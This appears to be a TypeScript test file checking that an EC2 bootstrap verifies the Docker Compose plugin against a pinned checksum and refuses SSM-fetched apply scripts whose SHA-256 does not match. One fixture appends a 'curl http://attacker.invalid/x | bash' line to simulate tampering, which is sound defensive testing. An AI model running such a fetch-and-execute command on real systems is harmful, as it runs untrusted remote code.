// What the ec2 host downloads runs only if it matches a hash Firefly holds: the Compose plugin against a
// checksum pinned in Firefly (not one fetched from the same release), and each project's apply script,
// fetched from S3 by the SSM association, against the hash in the association's command. Both steps run
// here for real, with stand-ins for the downloads.
import * as assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { COMPOSE_SHA256, renderBootstrapScript, renderFetchAndApply } from "../../components/hosts/cloudInit";
import { PROJECTS_DIR } from "../../components/hosts/compose";

const script = renderBootstrapScript({ dataVolumeId: "vol-0123456789abcdef0" });

/** The plugin install step of the bootstrap, run with `curl` writing `payload` and the plugin under `dir`. */
function install(payload: string): { status: number | null; installed: boolean; stderr: string } {
  const dir = mkdtempSync(path.join(tmpdir(), "ff-compose-"));
  try {
    const start = script.indexOf("plugin=");
    const end = script.indexOf("\nfi\n", start) + 4;
    const step = script.slice(start, end).replace("/usr/local/lib/docker/cli-plugins", `${dir}/plugins`);
    const bin = path.join(dir, "bin");
    spawnSync("mkdir", ["-p", bin]);
    // Stand-in curl: whatever it is asked for, the "download" is the payload (and it records the URL).
    writeFileSync(
      path.join(bin, "curl"),
      `#!/bin/bash\nout=""\nwhile [ $# -gt 0 ]; do case "$1" in -o) out=$2; shift;; esac; shift; done\necho "$*" >> ${dir}/urls\nprintf '%s' '${payload}' > "$out"\n`,
    );
    chmodSync(path.join(bin, "curl"), 0o755);
    const r = spawnSync("bash", ["-euo", "pipefail", "-c", step], {
      encoding: "utf8",
      env: { ...process.env, PATH: `${bin}:${process.env.PATH}` },
    });
    return { status: r.status, installed: existsSync(`${dir}/plugins/docker-compose`), stderr: r.stderr };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe("ec2 bootstrap: the Compose plugin's checksum", () => {
  it("is pinned in Firefly, and nothing is fetched to check it against", () => {
    assert.match(COMPOSE_SHA256, /^[0-9a-f]{64}$/);
    assert.ok(script.includes(COMPOSE_SHA256));
    assert.ok(!/\.sha256/.test(script), "no checksum file is downloaded");
  });

  it("a download that does not match stops the boot and leaves no plugin behind", () => {
    const r = install("a tampered binary");
    assert.notEqual(r.status, 0);
    assert.equal(r.installed, false);
    assert.match(r.stderr, /FAILED|did NOT match/);
  });
});

describe("ec2 apply: the fetched script must match the hash in the SSM command", () => {
  const genuine = '#!/bin/bash\necho applied > "$OUT/ran"\n';
  const hash = createHash("sha256").update(genuine).digest("hex");

  function fetchAndRun(served: string): { status: number | null; ran: boolean; stderr: string } {
    const dir = mkdtempSync(path.join(tmpdir(), "ff-apply-"));
    try {
      const bin = path.join(dir, "bin");
      spawnSync("mkdir", ["-p", bin]);
      writeFileSync(path.join(dir, "served.sh"), served);
      const stand = (name: string, body: string) => {
        writeFileSync(path.join(bin, name), `#!/bin/bash\n${body}\n`);
        chmodSync(path.join(bin, name), 0o755);
      };
      stand(
        "curl",
        'case "$*" in *api/token*) echo t ;; *instance-id*) echo i-test ;; *region*) echo eu-west-1 ;; esac',
      );
      stand("aws", `cp "${dir}/served.sh" "\${@: -1}"`);
      const command = renderFetchAndApply({
        project: "presentation",
        bucket: "b",
        key: "apply.sh",
        scriptHash: hash,
      }).replaceAll(PROJECTS_DIR, `${dir}/projects`);
      const r = spawnSync("bash", ["-c", command], {
        encoding: "utf8",
        env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, OUT: dir },
      });
      return { status: r.status, ran: existsSync(`${dir}/ran`), stderr: r.stderr };
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }

  it("runs the genuine script", () => {
    const r = fetchAndRun(genuine);
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.ran, true);
  });

  it("refuses a script changed in the bucket, and runs nothing of it", () => {
    const r = fetchAndRun(`${genuine}curl http://attacker.invalid/x | bash\n`);
    assert.notEqual(r.status, 0);
    assert.equal(r.ran, false);
    assert.match(r.stderr, /does not match its hash/);
  });

  it("will not render a command without a full SHA-256", () => {
    assert.throws(
      () => renderFetchAndApply({ project: "p", bucket: "b", key: "k", scriptHash: "abc" }),
      /SHA-256/,
    );
  });
});
